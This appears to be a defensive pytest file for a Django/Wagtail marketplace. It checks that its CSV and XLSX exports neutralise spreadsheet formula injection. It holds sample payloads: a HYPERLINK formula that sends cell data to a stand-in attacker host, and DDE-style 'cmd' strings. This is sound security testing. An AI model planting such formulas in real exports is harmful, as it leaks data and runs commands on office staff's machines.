"""Text typed by visitors, producers and editors never runs as a formula when the office
opens a spreadsheet the site made: the rule (marketplace/core/spreadsheet_safety.py),
Wagtail's own exports, the certificates export and the catalogue export. (The import's
side: tests/test_bulk_bad_input.py.)"""

import io
from decimal import Decimal
from types import SimpleNamespace

import pytest
from django.contrib.auth import get_user_model
from django.urls import reverse
from openpyxl import load_workbook
from wagtail.admin.views.mixins import SpreadsheetExportMixin

from marketplace.certificates.models import OcopCertificate
from marketplace.core.spreadsheet_safety import is_formula_like, neutralise_formula
from marketplace.office.bulk.exporting import export_workbook
from marketplace.office.bulk.importing import run_import
from tests.certificates_fixtures import make_certificate
from tests.factories import make_producer, make_product
from tests.producer_accounts_helpers import admin_client
from tests.reports_fixtures import export_csv

pytest_plugins = ["tests.producer_accounts_fixtures"]

ATTACK = '=HYPERLINK("http://evil.example/?"&A1,"Xem")'
# Not "=": the signs that slipped through before.
PLUS = "+84905123456+cmd|' /C calc'!A0"
MINUS = "-1+1|cmd"
AT = "@SUM(1+1)*cmd|' /C calc'!A0"


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        (ATTACK, "'" + ATTACK),
        (PLUS, "'" + PLUS),
        (MINUS, "'" + MINUS),
        (AT, "'" + AT),
        ("+84905123456 gọi", "'+84905123456 gọi"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("\tchữ", "'\tchữ"),  # a tab first, whatever follows
        ("\t5", "'\t5"),
        (" =1+1", "' =1+1"),  # whitespace before the sign
        ("\n\n@SUM(A1)", "'\n\n@SUM(A1)"),
        ("\u00a0-1+1", "'\u00a0-1+1"),
        ("-inf", "'-inf"),
        ("-5", "-5"),  # a number written as text
        ("-2.5", "-2.5"),
        ("-2,5", "-2,5"),
        ("+84905123456", "+84905123456"),
        ("-", "-"),  # a sign alone is text to every spreadsheet program
        ("nước mắm", "nước mắm"),
        ("a=b", "a=b"),
        ("", ""),
        (42, 42),
        (-5, -5),
        (Decimal("-2.5"), Decimal("-2.5")),
        (None, None),
    ],
)
def test_formula_like_text_is_made_plain_text(value, expected):
    assert neutralise_formula(value) == expected
    assert is_formula_like(value) == (value != expected)


@pytest.fixture
def superuser_client(db):
    user = get_user_model().objects.create_superuser("root@example.com", "root@example.com")
    return admin_client(user)


def first_column(rows: list[list[str]]) -> list[str]:
    return [row[0] for row in rows[1:]]


@pytest.mark.django_db
def test_wagtails_own_reports_neutralise_page_titles(site, superuser_client):
    for title in (PLUS, MINUS, AT):
        make_producer(site.producers, title)

    aging = export_csv(
        superuser_client.get(reverse("wagtailadmin_reports:aging_pages"), {"export": "csv"})
    )
    history = export_csv(
        superuser_client.get(reverse("wagtailadmin_reports:site_history"), {"export": "csv"})
    )

    for rows in (aging, history):
        cells = {cell for row in rows[1:] for cell in row}
        assert {"'" + PLUS, "'" + MINUS, "'" + AT} <= cells
        assert not {PLUS, MINUS, AT} & cells


@pytest.mark.django_db
def test_the_workflow_report_neutralises_page_titles(site, superuser_client, office_user):
    producer = make_producer(site.producers, "HTX Gốm")
    product = make_product(producer, AT)
    product.get_workflow().start(product, office_user)

    rows = export_csv(
        superuser_client.get(reverse("wagtailadmin_reports:workflow"), {"export": "csv"})
    )

    cells = {cell for row in rows[1:] for cell in row}
    assert "'" + AT in cells
    assert AT not in cells


def test_headings_typed_by_editors_are_neutralised_in_both_formats():
    # As a form page's submissions export does: its headings are its fields' labels.
    class SubmissionsExport(SpreadsheetExportMixin):
        list_export = ["name"]
        export_headings = {"name": AT}

    export = SubmissionsExport()
    rows = [SimpleNamespace(name=MINUS)]

    csv_text = b"".join(export.stream_csv(rows)).decode()
    assert csv_text.splitlines() == [f"'{AT}", f"'{MINUS}"]

    buffer = io.BytesIO()
    export.write_xlsx(rows, buffer)
    sheet = load_workbook(buffer).active
    assert [(cell.value, cell.data_type) for cell in sheet[1]] == [("'" + AT, "s")]
    assert [(cell.value, cell.data_type) for cell in sheet[2]] == [(MINUS, "s")]


@pytest.mark.django_db
def test_the_certificates_export_neutralises_what_producers_typed(site, office_client):
    producer = make_producer(site.producers, "HTX Gốm")
    certificate = make_certificate(producer, "Bình gốm")
    OcopCertificate.objects.filter(pk=certificate.pk).update(
        issuing_body=" " + ATTACK, decision_number="\t12/QĐ-UBND"
    )

    rows = export_csv(office_client.get(reverse("certificates_admin:index"), {"export": "csv"}))

    header, row = rows[0], rows[1]
    assert row[header.index("Issuing body")] == "' " + ATTACK
    assert row[header.index("Decision number")] == "'\t12/QĐ-UBND"


@pytest.mark.django_db
def test_the_catalogue_export_keeps_formula_like_text_as_quoted_text(site):
    producer = make_producer(site.producers, "HTX Gốm", display_name=AT, summary=ATTACK)
    make_product(producer, "Bình gốm", ingredients=MINUS, storage_advice=PLUS)

    workbook = load_workbook(io.BytesIO(export_workbook()))

    for sheet, cells in (
        ("producers", {"display_name": AT, "summary": ATTACK, "title": "HTX Gốm"}),
        ("products", {"ingredients": MINUS, "storage_advice": PLUS, "title": "Bình gốm"}),
    ):
        header = [cell.value for cell in workbook[sheet][1]]
        row = workbook[sheet][2]
        for column, text in cells.items():
            cell = row[header.index(column)]
            # The value unchanged (so it re-imports as it is), shown and kept as text.
            assert (cell.value, cell.data_type) == (text, "s")
            assert cell.quotePrefix == is_formula_like(text), column


@pytest.mark.django_db
def test_the_catalogue_export_of_formula_like_text_reimports_with_the_cells_named(site):
    producer = make_producer(site.producers, "HTX Gốm", display_name=AT, summary=ATTACK)
    make_product(producer, "Bình gốm", ingredients=MINUS)

    report = run_import(export_workbook(), "catalogue.xlsx", dry_run=True)

    assert {(p.sheet, p.row, p.column) for p in report.problems} == {
        ("producers", 2, "display_name"),
        ("producers", 2, "summary"),
        ("products", 2, "ingredients"),
    }
